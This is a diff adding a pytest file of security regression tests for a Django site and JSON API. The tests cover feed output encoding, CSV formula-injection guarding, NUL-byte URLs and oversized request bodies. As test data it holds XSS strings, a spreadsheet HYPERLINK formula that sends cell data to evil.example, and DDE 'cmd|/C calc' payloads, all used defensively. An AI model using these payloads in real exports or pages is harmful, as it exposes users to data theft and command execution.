@@ -1,0 +1,220 @@
+"""Hostile input (issue 10, point 8): each reproduction of the issue, and the OWASP ASVS
+level 2 items that apply to a public Django site with a JSON API (input validation,
+output encoding, session management, security headers, CSRF), as tests."""
+
+from __future__ import annotations
+
+import csv
+import datetime
+import io
+import json
+import xml.etree.ElementTree as ET
+
+import pytest
+from rest_framework.authtoken.models import Token
+from rest_framework.test import APIClient
+
+from core.models import Source
+from tests.factories import make_person, make_state, make_visit, make_warrant
+from visits import flagging
+from visits.models import Visit
+
+pytestmark = pytest.mark.django_db
+
+ATOM = "{http://www.w3.org/2005/Atom}"
+PLACE = '<script>alert("place")</script>'
+PUBLISHER = "<b onmouseover=alert(1)>"
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+]
+
+
+def token_client(user) -> APIClient:
+    client = APIClient()
+    client.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.get_or_create(user=user)[0].key}")
+    return client
+
+
+@pytest.fixture
+def hostile_incident():
+    """A published incident in Tajikistan whose stored text is markup and formulas."""
+    make_state("TJK", "Tajikistan", entry_into_force=datetime.date(2002, 7, 1))
+    person = make_person("vladimir-putin", "Vladimir Putin")
+    make_warrant(person)
+    tajikistan = make_state("TJK")
+    visit = make_visit(
+        person,
+        tajikistan,
+        start=datetime.date(2025, 10, 8),
+        place="Dushanbe",
+        occasion=FORMULAS[0],
+        host_justification=FORMULAS[1],
+    )
+    make_visit(
+        person,
+        tajikistan,
+        start=datetime.date(2025, 11, 8),
+        place=FORMULAS[2],
+        host_justification=FORMULAS[3],
+    )
+    Source.objects.update(publisher=PUBLISHER)
+    flagging.evaluate_visits(list(Visit.objects.values_list("pk", flat=True)))
+    # A change to the place: the Changes feed describes it (before → after).
+    visit.refresh_from_db()
+    visit.place = PLACE
+    visit.save()
+    flagging.evaluate_visits([visit.pk], cause=f"correction: the place is {PLACE}")
+    assert Visit.objects.filter(verdict__code="non_compliance").count() == 2
+    return visit
+
+
+# --- Output encoding: feeds -----------------------------------------------------------
+
+
+def feed_elements(response):
+    assert response.status_code == 200, response.content[:300]
+    return ET.fromstring(response.content).iter()
+
+
+@pytest.mark.parametrize(
+    "url",
+    ["/incidents/feed/", "/states/TJK/feed/", "/persons/vladimir-putin/feed/", "/changes/feed/"],
+)
+def test_stored_markup_reaches_a_feed_reader_as_text(client, hostile_incident, url):
+    """Issue 10: `<script>alert("place")</script>` in `<summary type="html">` was markup to a
+    feed reader. Whatever an element holds, an element whose text has markup is text."""
+    seen = ""
+    for element in feed_elements(client.get(url)):
+        text = element.text or ""
+        seen += text
+        if "<" in text:
+            assert element.get("type", "text") == "text", (element.tag, element.attrib, text)
+        if element.tag in (f"{ATOM}summary", f"{ATOM}content"):
+            assert element.get("type") == "text", element.attrib
+    assert PLACE in seen or PUBLISHER in seen, seen  # shown, as the characters they are
+
+
+# --- CSV formula injection in the site's downloads ------------------------------------
+
+
+def download_rows(response) -> list[dict]:
+    assert response.status_code == 200
+    assert response["Content-Type"].startswith("text/csv")
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+@pytest.mark.parametrize(
+    "url",
+    ["/visits.csv?host=TJK", "/incidents.csv?host=TJK", "/api/v1/visits/?format=csv&host=TJK"],
+)
+def test_formula_cells_in_downloads_are_guarded(client, hostile_incident, url):
+    """Issue 10: /visits.csv?host=TJK wrote `=HYPERLINK(...)`, `+cmd|...`, `-2+3` as they
+    are. Every cell of every download that a spreadsheet would run starts with `'`."""
+    response = client.get(url)
+    if url.startswith("/api/"):
+        rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    else:
+        rows = download_rows(response)
+    assert rows
+    cells = [cell for row in rows for cell in row.values() if cell]
+    assert not [c for c in cells if c[0] in "=+-@\t\r"], cells
+    guarded = [c for c in cells if c.startswith("'")]
+    assert PLACE in cells  # markup is not a formula: left as it is
+    for formula in FORMULAS:
+        assert "'" + formula in guarded, (formula, cells)
+
+
+# --- NUL and malformed path parameters: 400/404 before the database -------------------
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "/search/?q=%00",
+        "/search/?q=abc%00def",
+        "/states/%00/",
+        "/states/M%00G/",
+        "/states/%00/feed/",
+        "/persons/%00/",
+        "/persons/vladimir%00putin/feed/",
+        "/visits/%00/",
+        "/visits/?host=%00",
+        "/visits/?person=%00",
+        "/visits.csv?host=M%00G",
+        "/incidents/?verdict=%00",
+        "/states/?q=%00",
+        "/changes/?page=%00",
+        "/language/%00/",
+        "/search/?%00=1",
+    ],
+)
+def test_nul_in_a_page_address_is_a_4xx(client, url):
+    """Issue 10: psycopg's DataError on NUL answered 500."""
+    response = client.get(url)
+    assert response.status_code in (400, 404), (url, response.status_code)
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "/api/v1/states/?name=%00",
+        "/api/v1/states/M%00G/",
+        "/api/v1/visits/?host=%00",
+        "/api/v1/visits/%00/",
+        "/api/v1/persons/?q=%00",
+        "/api/v1/incidents/?cursor=%00",
+        "/api/v1/visits/?ordering=%00",
+    ],
+)
+def test_nul_in_an_api_address_is_a_json_4xx(client, url):
+    response = client.get(url)
+    assert response.status_code in (400, 404), (url, response.status_code)
+    assert response["Content-Type"].startswith("application/json")
+    assert set(response.json()["error"]) == {"code", "message", "fields"}
+
+
+def test_nul_is_refused_before_the_database(client, django_assert_num_queries):
+    with django_assert_num_queries(0):
+        assert client.get("/search/?q=%00").status_code == 400
+        assert client.get("/states/M%00G/").status_code == 400
+
+
+# --- The API's body limits ------------------------------------------------------------
+
+
+def test_deeply_nested_json_is_the_apis_400(reporter):
+    """Issue 10: a reporter's POST of 100,000 nested arrays raised RecursionError (500)."""
+    body = "[" * 100_000 + "]" * 100_000
+    for path in ("/api/v1/reports/", "/api/v1/visits/"):
+        response = token_client(reporter).post(path, body, content_type="application/json")
+        assert response.status_code == 400, (path, response.status_code)
+        assert response.json()["error"]["code"] == "parse_error"
+
+
+def test_a_30_mb_body_is_the_apis_json_error(reporter):
+    """Issue 10: a 30 MB body answered Django's HTML 400."""
+    body = json.dumps({"notes": "x" * (30 * 1024 * 1024)})
+    response = token_client(reporter).post(
+        "/api/v1/reports/", body, content_type="application/json"
+    )
+    assert response.status_code in (400, 413)
+    assert response["Content-Type"].startswith("application/json")
+    assert response.json()["error"]["code"] == "too_large"
+
+
+def test_a_30_mb_body_to_a_read_only_endpoint_is_json_too():
+    response = APIClient().post(
+        "/api/v1/states/", "x" * (30 * 1024 * 1024), content_type="application/json"
+    )
+    assert 400 <= response.status_code < 500
+    assert response["Content-Type"].startswith("application/json")
+
+
+def test_an_ordinary_report_body_is_still_parsed(reporter):
+    response = token_client(reporter).post("/api/v1/reports/", {"sources": [[[[]]]]}, format="json")
+    assert response.status_code == 400
+    assert response.json()["error"]["code"] != "parse_error"
